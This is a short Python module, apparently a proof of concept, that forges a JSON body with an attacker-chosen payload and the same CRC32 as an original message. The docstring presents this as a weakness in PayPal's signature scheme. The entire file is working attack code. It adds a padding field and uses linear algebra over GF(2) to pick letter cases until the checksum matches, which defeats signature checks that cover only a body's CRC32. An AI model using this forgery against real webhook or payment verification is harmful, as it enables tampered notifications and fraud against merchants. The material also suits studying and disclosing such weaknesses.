"""Another body with the same CRC32: what PayPal's signature does not protect against."""

from __future__ import annotations

import json
import zlib
from typing import Any

FREE = 64
"""Letters whose case is free to choose: 32 are needed, the rest makes the equations independent."""


def same_checksum(body: bytes, changed: dict[str, Any]) -> bytes:
    """`changed` as JSON with one padding member added, so that its CRC32 is that of `body`.

    A CRC is linear: flipping a bit of a message flips a fixed set of its bits, whatever the rest says. Each
    padding letter gives one such set (upper or lower case differ by one bit), and Gaussian elimination over
    GF(2) picks the letters that turn the checksum into the wanted one.
    """
    start = json.dumps(changed)[:-1].encode() + b', "padding": "'
    end = b'"}'
    plain = start + b"a" * FREE + end
    offset = zlib.crc32(plain)
    rows: list[tuple[int, int]] = []
    for place in range(FREE):
        flipped = bytearray(plain)
        flipped[len(start) + place] ^= 0x20
        vector, used = zlib.crc32(flipped) ^ offset, 1 << place
        for other, others in rows:
            if vector ^ other < vector:
                vector, used = vector ^ other, used ^ others
        if vector:
            rows.append((vector, used))
            rows.sort(reverse=True)
    missing, chosen = zlib.crc32(body) ^ offset, 0
    for vector, used in rows:
        if missing ^ vector < missing:
            missing, chosen = missing ^ vector, chosen ^ used
    letters = bytes(ord("A") if chosen >> place & 1 else ord("a") for place in range(FREE))
    forged = start + letters + end
    assert zlib.crc32(forged) == zlib.crc32(body)
    return forged
